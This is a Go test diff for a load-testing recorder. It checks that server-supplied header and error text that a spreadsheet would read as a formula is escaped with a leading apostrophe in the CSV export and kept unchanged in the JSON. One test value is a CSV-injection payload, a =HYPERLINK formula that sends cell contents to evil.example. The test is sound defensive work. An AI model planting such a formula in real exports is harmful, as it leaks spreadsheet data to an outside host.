@@ -547,6 +547,73 @@ func TestExportCSV(t *testing.T) {
 	}
 }
 
+// TestCSVCellsAreNotFormulas: a cell of text a server chose that a
+// spreadsheet would take as a formula starts with ' in the CSV (a custom
+// target's Retry-After of =HYPERLINK(…) was a live link); the JSON keeps
+// it as received, and text that starts otherwise is written as it is.
+func TestCSVCellsAreNotFormulas(t *testing.T) {
+	for _, c := range []struct {
+		name, value, want string
+	}{
+		{"equals", `=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
+		{"plus", "+1+1", "'+1+1"},
+		{"minus", "-5", "'-5"},
+		{"at", "@SUM(A1)", "'@SUM(A1)"},
+		{"tab", "\t=1", "'\t=1"},
+		{"carriage return", "\r=1", "'\r=1"},
+		{"seconds", "120", "120"},
+		{"date", "Wed, 21 Oct 2026 07:28:00 GMT", "Wed, 21 Oct 2026 07:28:00 GMT"},
+		{"quote", "'=1", "'=1"},
+	} {
+		rec := NewRecording(Default(), t0, false)
+		rec.Append(
+			attempt(0, 0, 1, 0, 0),
+			outcome(0, 0, 1, 50, Attempt{Status: 429, Header: http.Header{"Retry-After": {c.value}, "X-Ratelimit-Remaining": {c.value}}, Redirected: c.value}),
+			outcome(1, 0, 1, 60, Attempt{Err: errors.New(c.value)}),
+		)
+		var buf bytes.Buffer
+		if err := rec.CSV(&buf); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&buf).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", c.name, err)
+		}
+		col := func(name string) int {
+			return slices.IndexFunc(EventColumns, func(e EventColumn) bool { return e.Name == name })
+		}
+		for _, cell := range []struct {
+			row  int
+			name string
+			want string
+		}{
+			{2, "retry_after", c.want},
+			{2, "ratelimit", "X-RateLimit-Remaining: " + c.value}, // its lines start with the header's name
+			{2, "redirected", c.want},
+			{3, "error", c.want},
+		} {
+			if got := rows[cell.row][col(cell.name)]; got != cell.want {
+				t.Errorf("%s: the CSV's %s is %q, want %q", c.name, cell.name, got, cell.want)
+			}
+		}
+		var doc struct {
+			Events []struct {
+				RetryAfter *string `json:"retry_after"`
+			} `json:"events"`
+		}
+		buf.Reset()
+		if err := rec.JSON(&buf); err != nil {
+			t.Fatal(err)
+		}
+		if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
+			t.Fatal(err)
+		}
+		if len(doc.Events) < 2 || doc.Events[1].RetryAfter == nil || *doc.Events[1].RetryAfter != c.value {
+			t.Errorf("%s: the JSON's retry_after is not %q as received", c.name, c.value)
+		}
+	}
+}
+
 // The JSON says what the server was made to do during the run, as the
 // server told it (SetFaults: the page's Outage, Halve limit and Burst, the
 // scheduled outage), and why the scheduled outage did not start
